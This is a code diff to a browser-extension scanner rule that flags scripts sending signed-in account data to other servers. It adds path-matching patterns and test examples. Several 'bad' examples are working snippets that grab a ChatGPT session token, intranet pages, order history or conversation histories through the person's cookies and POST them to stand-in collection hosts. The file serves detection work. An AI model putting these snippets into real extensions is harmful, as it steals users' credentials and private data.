@@ -1,12 +1,16 @@
 import { constant, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { hostOf, leadsOut, ownerOf, requestsOf, type Request } from './network.ts';
 import { originsOf } from './origins.ts';
+import { runsInPages } from './places.ts';
 import { few } from './usage.ts';
 
 /** Addresses whose answers hold the person's own things whenever they are signed in. */
 const PRIVATE = /\/\/(mail\.google\.com\/mail|gmail\.googleapis\.com\/|www\.googleapis\.com\/(gmail|drive)\/|graph\.microsoft\.com\/v[\d.]+\/me\/(messages|mailfolders|drive)|(chat\.openai|chatgpt)\.com\/(api|backend-api)|claude\.ai\/api|(business|adsmanager|graph|www|m)\.facebook\.com\/|www\.linkedin\.com\/(voyager|feed)|(x|twitter)\.com\/i\/api|www\.instagram\.com\/|discord\.com\/api\/v\d+\/users|outlook\.(live|office)\.com\/|myaccount\.google\.com|accounts\.google\.com|www\.paypal\.com\/|github\.com\/settings|www\.roblox\.com\/|api\.steampowered\.com|web\.whatsapp\.com)/i;
+
+/** Paths under which a site answers its signed-in person, asked from a script in its own pages. */
+const OWN_PAGES = /^\/(?!\/)[^?]*\b(backend-api|api\/(auth|me|account|user|organizations|conversations?|messages?|orders?)|account|orders?|order-history|inbox|messages?|settings|billing|wallet|me|profile|conversations?|voyager\/api|session)\b/i;
 
 /** Values from which on a script is taken for a bundle, and characters that are near in it. */
 const BUNDLE = 2000;
@@ -23,9 +27,10 @@ export const answersPassedOn = defineRule({
   references: ['https://attack.mitre.org/techniques/T1539/', 'https://attack.mitre.org/techniques/T1114/'],
   why: 'Requests of an extension carry the person’s cookies, so that the answers hold their mails, messages, keys and accounts. Sent elsewhere, they belong to whoever owns that server.',
   remedy: 'Work on such answers in the browser, and send nothing of them.',
-  check: checkScripts(function* ({ script, hit }) {
+  check: checkScripts(function* ({ script, file, facts, hit }) {
     const all = few(requestsOf(script), 200);
-    const asked = all.filter((request) => leadsOut(request.to) && hostOf(request.to) !== undefined && isPersonal(script, request));
+    const inPages = runsInPages(facts, file.path);
+    const asked = all.filter((request) => (leadsOut(request.to) && hostOf(request.to) !== undefined && isPersonal(script, request)) || (inPages && OWN_PAGES.test(request.to)));
     if (asked.length === 0) return;
     for (const request of all) {
       const host = hostOf(request.to);
@@ -35,7 +40,7 @@ export const answersPassedOn = defineRule({
         if (script.stats.values > BUNDLE && Math.abs(request.pos - first.pos) > NEAR) continue;
         if (first.value === request.value || ownerOf(hostOf(first.to) ?? '') === ownerOf(host)) continue;
         if (!request.sent.some((value) => value !== request.address && originsOf(script, value).has(first.value)) && !originsOf(script, request.address).has(first.value)) continue;
-        yield hit(request.value, { message: `Answers of ${hostOf(first.to) ?? ''} are sent to ${host}.`, ...(PRIVATE.test(first.to) ? { severity: 'critical' as const } : {}) });
+        yield hit(request.value, { message: `Answers of ${hostOf(first.to) ?? 'the site, asked in the person’s name,'} are sent to ${host}.`, ...(PRIVATE.test(first.to) ? { severity: 'critical' as const } : {}) });
         break;
       }
     }
@@ -44,8 +49,12 @@ export const answersPassedOn = defineRule({
     bad: [
       backgroundExample('async function go() { const r = await fetch("https://chat.openai.com/api/auth/session", { credentials: "include" }); const { accessToken } = await r.json(); fetch("https://api.mods.example/acc", { method: "POST", body: JSON.stringify({ accessToken }) }); } go();'),
       backgroundExample('chrome.alarms.onAlarm.addListener(async () => { const html = await (await fetch("https://intranet.example.org/list", { credentials: "include" })).text(); await fetch("https://in.collect.example/raw", { method: "POST", body: html }); });'),
+      contentExample('(async () => { const html = await (await fetch("/gp/css/order-history?year=2026")).text(); const doc = new DOMParser().parseFromString(html, "text/html"); const rows = [...doc.querySelectorAll(".order")].map((o) => ({ total: o.querySelector(".value")?.textContent })); await fetch("https://drop.collect.example/u", { method: "POST", body: JSON.stringify(rows) }); })();'),
+      contentExample('async function* all() { const page = await (await fetch("/backend-api/conversations?limit=50")).json(); for (const { id } of page.items) yield (await fetch(`/backend-api/conversation/${id}`)).json(); } (async () => { for await (const c of all()) await fetch("https://folders.collect.example/i", { method: "POST", body: JSON.stringify(c) }); })();'),
     ],
     good: [
+      contentExample('(async () => { const me = await (await fetch("/api/me")).json(); show(me.name); fetch("https://tool.example/ping"); })();'),
+      contentExample('(async () => { const item = await (await fetch("/products/12.json")).json(); fetch("https://prices.example/p", { method: "POST", body: JSON.stringify({ price: item.price }) }); })();'),
       backgroundExample('(async () => { const t = await (await fetch("https://api.weather.example/now")).text(); await fetch("https://log.tool.example/n", { method: "POST", body: t }); })();'),
       backgroundExample('(async () => { const t = await (await fetch("https://mail.google.com/mail/u/0/feed/atom", { credentials: "include" })).text(); chrome.action.setBadgeText({ text: t.slice(0, 3) }); fetch("https://tool.example/ping"); })();'),
       backgroundExample('(async () => { const t = await (await fetch("https://accounts.google.com/o/oauth2/token", { method: "POST", body: code })).json(); await fetch("https://www.googleapis.com/upload/drive/v3/files", { method: "POST", headers: { Authorization: "Bearer " + t.access_token }, body: page }); })();'),
